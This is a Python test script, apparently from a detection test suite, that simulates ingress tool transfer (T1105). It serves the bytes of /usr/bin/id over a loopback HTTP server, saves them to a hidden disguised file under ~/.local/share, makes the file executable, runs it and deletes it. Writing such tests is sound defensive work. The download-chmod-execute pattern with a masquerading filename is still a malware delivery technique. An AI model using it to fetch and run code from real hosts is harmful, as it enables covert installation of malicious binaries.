# technique: T1105
"""Ingress tool transfer of a native binary: download an ELF, chmod +x, run it (T1105).

The "tool" is a real executable (the bytes of /usr/bin/id, served by our
loopback HTTP server as /dl/agent), downloaded with http.client in
chunks, written to a hidden file under $HOME/.local/share, made
executable with os.chmod and started with os.posix_spawn. Unlike a
script dropper, the payload is native code that vigil cannot see into.

A good detector raises a high alert: a file downloaded from the network is
made executable and executed.
"""
import http.client
import http.server
import os
import threading

with open("/usr/bin/id", "rb") as f:
    tool = f.read()


class Dist(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "application/octet-stream")
        self.send_header("Content-Length", str(len(tool)))
        self.end_headers()
        self.wfile.write(tool)

    def log_message(self, *args):
        pass


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Dist)
threading.Thread(target=server.serve_forever, daemon=True).start()
connection = http.client.HTTPConnection("127.0.0.1", server.server_address[1], timeout=5)
connection.request("GET", "/dl/agent")
response = connection.getresponse()
target = os.path.join(os.path.expanduser("~"), ".local", "share", ".gvfs-agent")
os.makedirs(os.path.dirname(target), exist_ok=True)
with open(target, "wb") as out:
    while True:
        chunk = response.read(8192)
        if not chunk:
            break
        out.write(chunk)
connection.close()
server.shutdown()
os.chmod(target, 0o755)
pid = os.posix_spawn(target, [target, "-un"], dict(os.environ))
_, status = os.waitpid(pid, 0)
print("downloaded tool exited", os.waitstatus_to_exitcode(status))
os.unlink(target)
